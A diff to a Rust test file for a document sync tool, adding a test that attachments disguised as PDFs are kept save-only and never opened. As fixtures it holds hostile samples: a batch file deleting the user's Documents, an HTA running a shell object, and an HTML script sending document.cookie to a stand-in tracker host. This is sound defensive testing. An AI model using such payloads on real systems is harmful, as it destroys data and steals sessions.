@@ -36,6 +36,7 @@ fn scanned_encrypted_and_mislabelled_pdfs_get_a_status_not_an_error() {
 #[test]
 fn a_phrase_from_inside_the_guides_pdf_finds_the_guide() {
     // Journey 3: "he searches a phrase he remembers from inside the guide's PDF".
+    crate::common::extraction_child();
     let tmp = tempfile::tempdir().unwrap();
     let (store, _) = open_library(&DataDir::new(tmp.path()), &Network::shipped().unwrap()).unwrap();
     let q = SearchQuery { text: "\"30% for communities\"".into(), ..Default::default() };
@@ -73,4 +74,48 @@ fn word_documents_have_their_paragraphs_extracted() {
     assert!(text.contains("Harm reduction & peer support."), "entities are decoded: {text}");
     let truncated = extract_text(DOCX, &bytes[..bytes.len() / 2]);
     assert!(matches!(truncated, ExtractedText::Unreadable | ExtractedText::NotItsType), "a truncated file gets a status, not a panic: {truncated:?}");
+}
+
+/// #17 item 5: attachments titled "(PDF)" reached the system opener as `.bat`, `.hta`, `.htm` and
+/// `.svg`. Now only an allowlisted document type whose bytes are that type is ever handed out, with
+/// the extension of the allowlist; anything else can be saved (as `.bin`), never opened.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn only_a_document_whose_bytes_are_its_type_is_handed_to_the_system_opener() {
+    use crate::common::{options, Publisher, World};
+    use peerlib_sync::{openable_attachment, save_extension, AttachmentError};
+    let hostile: [(&str, &[u8], Option<&str>); 4] = [
+        ("bat", b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", Some("TXT")),
+        ("hta", b"<html><head><hta:application id=x/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></head></html>", Some("HTML")),
+        ("htm", b"<!DOCTYPE html><html><body><script>fetch('https://tracker.example/'+document.cookie)</script></body></html>", Some("HTML")),
+        ("svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", Some("XML")),
+    ];
+    let p = Publisher::new();
+    p.write_doc("real", "Guide", "The guide.", Some(b"%PDF-1.4\n% a real PDF\n"));
+    for (id, _, _) in &hostile {
+        p.write_doc(id, "Agenda", "The agenda.", Some(format!("%PDF-1.4\n% {id}, replaced below\n").as_bytes()));
+    }
+    p.publish();
+    for (id, bytes, _) in &hostile {
+        p.swap_attachment(id, bytes);
+    }
+    let w = World::serve(p).await;
+    let a = w.sync_with(&options(std::time::Duration::from_secs(5))).await.unwrap();
+    assert!(a.ok(), "a mislabelled file is kept and marked, not a failed sync: {a:?}");
+    let (store, _) = peerlib_store::ContentStore::open_in(&w.dir).unwrap();
+
+    let real = store.document("real").unwrap().attachments.remove(0);
+    assert_eq!((real.real_type.as_deref(), real.openable), (Some("PDF"), true));
+    let path = openable_attachment(&w.dir, &real).expect("a PDF that is a PDF opens");
+    assert_eq!(path.extension().unwrap(), "pdf");
+
+    for (id, bytes, label) in hostile {
+        let att = store.document(id).unwrap().attachments.remove(0);
+        assert_eq!(att.media_type, "application/pdf", "{id}: the feed claims a PDF");
+        assert_eq!(att.real_type.as_deref(), label, "{id}: the real type is shown");
+        assert!(!att.openable, "{id}: marked save-only");
+        assert!(matches!(openable_attachment(&w.dir, &att), Err(AttachmentError::NotOpenable)), "{id} is never handed to the opener");
+        assert_eq!(save_extension(&att, bytes), "bin", "{id}: a saved copy is no double-click away from running");
+    }
+    let opened: Vec<String> = std::fs::read_dir(w.dir.attachments().join("open")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    assert_eq!(opened, [format!("{}.pdf", real.sha256)], "nothing but the real PDF was made openable");
 }
